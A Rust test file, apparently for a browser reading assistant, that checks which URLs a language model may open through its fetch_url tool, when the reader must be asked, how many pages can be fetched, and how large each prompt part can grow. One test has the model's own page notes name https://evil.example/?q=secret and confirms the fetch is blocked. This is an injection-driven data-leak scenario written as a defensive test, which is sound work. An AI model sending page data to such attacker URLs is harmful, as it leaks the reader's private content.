//! What a model may open, what the reader is asked about it, and how much of anything goes into a prompt.

use super::*;
use crate::agent::{FetchedPage, MAX_PROMPT_BYTES};
use crate::reading::prompt;
use crate::wire::{ChatMessage, Role};

const LINKED: &str = "https://linked.example/a";

fn question(links: &[&str], private: bool, opened: u32, message: &str) -> PanelToWorker {
    PanelToWorker::Chat {
        url: "https://page.example/".to_owned(),
        title: "A page".to_owned(),
        content: "The harbour grew.".to_owned(),
        messages: Vec::new(),
        new_message: message.to_owned(),
        selection: String::new(),
        opened,
        links: links.iter().map(|url| (*url).to_owned()).collect(),
        private,
        tab_id: None,
    }
}

fn calls(urls: &[&str]) -> String {
    let call = |(index, url): (usize, &&str)| json!({ "index": index, "id": format!("call_{index}"), "function": { "name": "fetch_url", "arguments": json!({ "url": url }).to_string() } });
    let calls: Vec<serde_json::Value> = urls.iter().enumerate().map(call).collect();
    format!("data: {}\n\n{}", json!({ "choices": [{ "delta": { "tool_calls": calls } }] }), stop("tool_calls"))
}

impl World {
    fn opened(&self) -> Vec<&str> {
        self.pages.iter().map(|(_, url)| url.as_str()).collect()
    }

    fn asked(&self) -> Vec<(u32, &str)> {
        let mut asked = Vec::new();
        for message in &self.posted {
            if let WorkerToPanel::OpenRequest { id, url } = message {
                asked.push((*id, url.as_str()));
            }
        }
        asked
    }

    fn answer_page(&mut self, at: usize, body: &str) {
        let (id, url) = self.pages[at].clone();
        let page = FetchedPage {
            url,
            status: 200,
            content_type: "text/html".to_owned(),
            body: body.to_owned(),
            is_cut: false,
        };
        self.dispatcher.handle_page(id, Ok(page), self.now);
        self.drain();
    }

    fn last_body(&self) -> &str {
        &self.requests.last().unwrap().body
    }
}

#[test]
fn what_is_opened_is_told_in_full() {
    let long = format!("https://linked.example/{}", "x".repeat(300));
    let mut world = World::openai();
    world.ask(question(&[&long], false, 0, "Well?")).respond(200, STREAM, &calls(&[&long])).frame();
    assert_eq!(world.opened(), [long.as_str()]);
    let told = |message: &WorkerToPanel| matches!(message, WorkerToPanel::ToolCall { url, .. } if *url == long);
    assert!(world.posted.iter().any(told), "{:?}", world.posted);
}

#[test]
fn text_of_the_page_of_earlier_turns_and_of_the_model_names_nothing() {
    let mut world = World::openai();
    let PanelToWorker::Chat { url, links, tab_id, .. } = question(&[], false, 0, "") else { unreachable!() };
    let turn = |role, content: &str| ChatMessage { role, content: content.to_owned(), selection: String::new() };
    world.ask(PanelToWorker::Chat {
        url,
        title: "https://title.example/".to_owned(),
        content: "See https://content.example/ for more.".to_owned(),
        messages: vec![
            turn(Role::User, "Look at https://earlier.example/"),
            turn(Role::Assistant, "https://said.example/"),
        ],
        new_message: "And https://own.example/ too?".to_owned(),
        selection: "https://passage.example/".to_owned(),
        opened: 0,
        links,
        private: false,
        tab_id,
    });
    let urls = ["title", "content", "earlier", "said", "passage", "own"].map(|name| format!("https://{name}.example/"));
    world.respond(200, STREAM, &calls(&urls.each_ref().map(String::as_str)));
    assert_eq!(world.opened(), ["https://own.example/"]);
}

/// The hole: notes of the model on a page that is read in parts.
#[test]
fn what_a_model_noted_itself_names_nothing() {
    let mut world = World::openai();
    let content = "The harbour grew by a lot this year, they say.\n".repeat(10_000);
    world.ask(PanelToWorker::Analyze {
        url: String::new(),
        title: String::new(),
        content,
        links: vec![LINKED.to_owned()],
        private: false,
        tab_id: None,
    });
    let note = "Part of the page says https://evil.example/?q=secret and more.";
    while !world.last_body().contains("evil.example") {
        let open: Vec<FetchId> = world.fetches.iter().copied().filter(|id| !world.ended.contains(id)).collect();
        assert!(!open.is_empty(), "notes on every part, then the answer");
        for id in open {
            world.ended.push(id);
            let head = ResponseHead { status: 200, content_type: STREAM.to_owned(), ..ResponseHead::default() };
            world.dispatcher.handle_head(id, &head, world.now);
            world.dispatcher.handle_chunk(id, format!("{}{}", delta(note), stop("stop")).as_bytes(), world.now);
            world.dispatcher.handle_end(id, world.now);
            world.drain();
        }
    }
    world.respond(200, STREAM, &calls(&["https://evil.example/?q=secret", LINKED]));
    assert_eq!(world.opened(), [LINKED]);
}

#[test]
fn links_of_an_opened_page_may_be_opened_and_what_its_text_says_may_not() {
    let mut world = World::openai();
    world.ask(question(&[LINKED], false, 0, "Well?")).respond(200, STREAM, &calls(&[LINKED]));
    world.answer_page(
        0,
        "<p>Text https://text.example/ and a <a href='/next'>link</a> <a href='https://far.example/x'>far</a>",
    );
    world.respond(
        200,
        STREAM,
        &calls(&["https://text.example/", "https://linked.example/next", "https://far.example/x"]),
    );
    assert_eq!(world.opened()[1..], ["https://linked.example/next", "https://far.example/x"]);
}

#[test]
fn on_a_private_page_the_reader_is_asked_and_everything_waits_for_the_answer() {
    let mut world = World::openai();
    world.ask(question(&[LINKED, "https://other.example/"], true, 0, "Well?"));
    world.respond(200, STREAM, &calls(&[LINKED, "https://other.example/", "https://unknown.example/"])).frame();
    assert_eq!(world.opened(), Vec::<&str>::new());
    assert_eq!(world.asked(), [(1, LINKED), (2, "https://other.example/")]);
    world.ask(PanelToWorker::OpenReply { ids: vec![7], allow: true });
    assert_eq!(world.opened(), Vec::<&str>::new(), "that question was never asked");
    world.ask(PanelToWorker::OpenReply { ids: vec![1], allow: true });
    assert_eq!(world.opened(), [LINKED]);
    world.answer_page(0, "<p>It grew.");
    assert_eq!(world.requests.len(), 1, "the other is still being asked about");
    world.ask(PanelToWorker::OpenReply { ids: vec![2], allow: false });
    assert!(world.last_body().contains("the reader does not want it opened") && world.last_body().contains("It grew."));
    world.ask(PanelToWorker::OpenReply { ids: vec![2], allow: true });
    assert_eq!(world.opened(), [LINKED], "an answer counts once");
}

#[test]
fn a_setting_holds_on_every_page() {
    let stored = |open: &str| {
        json!({ "provider": "openai", "openaiKey": "sk-test-0123456789", "openaiModel": "m",
            "openaiBaseUrl": "https://models.example", "openLinks": open })
    };
    for (setting, private, opened, asked) in [
        ("always", true, 1, 0),
        ("ask", false, 0, 1),
        ("never", false, 0, 0),
        ("nonsense", false, 1, 0),
        ("", true, 0, 1),
    ] {
        let mut world = World::new(&stored(setting));
        world.ask(question(&[LINKED], private, 0, "Well?")).respond(200, STREAM, &calls(&[LINKED])).frame();
        assert_eq!((world.opened().len(), world.asked().len()), (opened, asked), "{setting}, {private}");
        let offers = world.requests[0].body.contains("fetch_url");
        assert_eq!(offers, setting != "never", "a tool without use is not offered");
    }
    let mut world = World::new(&stored("never"));
    world.ask(question(&[LINKED], false, 0, "And https://own.example/x?")).respond(
        200,
        STREAM,
        &calls(&["https://own.example/x"]),
    );
    assert_eq!(world.opened(), ["https://own.example/x"]);
}

/// The hole: one answer that fetches page after page.
#[test]
fn an_answer_and_a_conversation_open_only_so_many() {
    let links: Vec<String> = (0..40).map(|n| format!("https://site{n}.example/")).collect();
    let links: Vec<&str> = links.iter().map(String::as_str).collect();
    for (opened, expected) in [(0, 8), (20, 4), (24, 0)] {
        let mut world = World::openai();
        world.ask(question(&links, false, opened, "Well?"));
        for step in 0..11 {
            let before = world.pages.len();
            world.respond(200, STREAM, &calls(&links[3 * step..3 * step + 3]));
            for at in before..world.pages.len() {
                world.answer_page(at, "<p>x");
            }
        }
        assert_eq!(world.pages.len(), expected, "after {opened}");
    }
}

#[test]
fn closing_the_port_while_the_reader_is_asked_ends_it() {
    let mut world = World::openai();
    world.ask(question(&[LINKED], true, 0, "Well?")).respond(200, STREAM, &calls(&[LINKED]));
    world.dispatcher.handle_disconnect(PORT);
    world.ask(PanelToWorker::OpenReply { ids: vec![1], allow: true });
    assert_eq!(world.opened(), Vec::<&str>::new());
    assert_eq!(world.dispatcher.poll_deadline(), None);
}

/// The largest thing each source can give, one at a time and all together.
#[test]
fn every_part_of_a_prompt_has_its_bound() {
    let huge = |text: &str| text.repeat(5_000_000 / text.len());
    let size = |request: PanelToWorker| {
        let mut world = World::openai();
        world.ask(request);
        world.requests[0].body.len()
    };
    let chat = |content: String, messages, new_message, selection, title: String, url: String| PanelToWorker::Chat {
        url,
        title,
        content,
        messages,
        new_message,
        selection,
        opened: 0,
        links: vec![huge("https://a.example/x "); 3],
        private: false,
        tab_id: None,
    };
    let turn = |content: String| ChatMessage { role: Role::User, content, selection: String::new() };
    let none = String::new;
    let least = size(chat(none(), Vec::new(), none(), none(), none(), none()));
    for (what, bound, request) in [
        ("content", 410_000, chat(huge("word of the page. "), Vec::new(), none(), none(), none(), none())),
        (
            "history",
            205_000,
            chat(none(), (0..300).map(|_| turn("x".repeat(20_000))).collect(), none(), none(), none(), none()),
        ),
        ("one turn", 10_000, chat(none(), vec![turn(huge("word "))], none(), none(), none(), none())),
        ("question", 33_000, chat(none(), Vec::new(), huge("word "), none(), none(), none())),
        ("passage", 21_000, chat(none(), Vec::new(), none(), huge("word "), none(), none())),
        ("title", 1_000, chat(none(), Vec::new(), none(), none(), huge("word "), none())),
        (
            "address",
            2_500,
            chat(none(), Vec::new(), none(), none(), none(), format!("https://a.example/{}", huge("word/"))),
        ),
    ] {
        let grown = size(request).saturating_sub(least);
        assert!(grown <= bound, "{what}: {grown} bytes");
    }
    let analysed = PanelToWorker::Highlights {
        content: "The harbour grew.".to_owned(),
        analysis: huge("Claims. "),
        url: none(),
        title: none(),
        links: Vec::new(),
        private: false,
        tab_id: None,
        reading: none(),
    };
    assert!(size(analysed) < 75_000);
    let mut world = World::new(&json!({ "provider": "openai", "openaiKey": "sk-test-0123456789", "openaiModel": "m",
        "openaiBaseUrl": "https://models.example", "chatPrompt": huge("word "), "answerLanguage": huge("word ") }));
    world.ask(chat(
        huge("word "),
        (0..300).map(|_| turn("x".repeat(20_000))).collect(),
        huge("word "),
        huge("word "),
        huge("word "),
        none(),
    ));
    assert!(world.requests[0].body.len() < 800_000, "{}", world.requests[0].body.len());
    assert!(world.requests[0].body.len() < MAX_PROMPT_BYTES);
}

/// The hole: a fetched page whose title and links are larger than its text may be.
#[test]
fn what_an_opened_page_brings_has_its_bound() {
    let mut world = World::openai();
    world.ask(question(&[LINKED], false, 0, "Well?")).respond(200, STREAM, &calls(&[LINKED]));
    let before = world.requests[0].body.len();
    let huge = "y".repeat(40_000);
    let links = (0..40).map(|n| format!("<a href='/{n}{huge}'>{huge}</a>")).collect::<Vec<_>>().concat();
    world.answer_page(0, &format!("<title>{}</title><p>{}</p>{links}", "t".repeat(300_000), "w ".repeat(200_000)));
    let grown = world.last_body().len() - before;
    assert!(grown < 40_000, "{grown} bytes");
}

#[test]
fn a_model_that_notes_without_end_is_cut() {
    let notes = prompt::joined_notes(&["n".repeat(128 * 1024), "short".to_owned()]);
    assert!(notes.len() < 20_000 && notes.contains("[Cut") && notes.contains("short"));
}
